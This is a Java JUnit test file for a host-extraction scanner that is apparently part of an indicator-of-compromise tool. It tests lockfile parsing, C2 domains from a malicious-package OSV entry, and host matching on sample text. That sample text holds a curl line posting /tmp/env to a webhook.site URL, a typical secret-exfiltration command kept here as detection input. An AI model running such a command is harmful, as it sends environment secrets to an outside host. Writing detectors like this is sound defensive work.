package io.iocstream.parse;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class HostScannerTest {

    @Test
    void aRealLockfileYieldsItsRegistryHostAndNoFileOrPackageNames() throws IOException {
        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));

        assertThat(HostScanner.hosts(lock)).contains("registry.npmjs.org")
                .noneMatch(host -> host.endsWith(".tgz") || host.endsWith(".js") || host.endsWith(".json"));
    }

    @Test
    void theC2DomainsOfARealOsvEntryAreFoundInItsText() throws IOException {
        byte[] osv = Files.readAllBytes(Path.of("src/test/resources/ioc/osv/malicious/pypi/litellm/MAL-2026-2144.json"));

        assertThat(HostScanner.hosts(osv)).contains("litellm.cloud", "models.litellm.cloud");
    }

    @Test
    void urlsBareNamesAndMailAddressesCountButVersionsAndFileNamesDoNot() {
        String text = """
                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
                see docs at example.com. or mail ops@corp.example.org
                require('lodash.merge'); open('index.js'); version 1.2.3; ip 10.0.0.1
                http://build-cache:8080/artifact
                """;

        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
                .containsExactly("webhook.site", "example.com", "corp.example.org");
    }
}
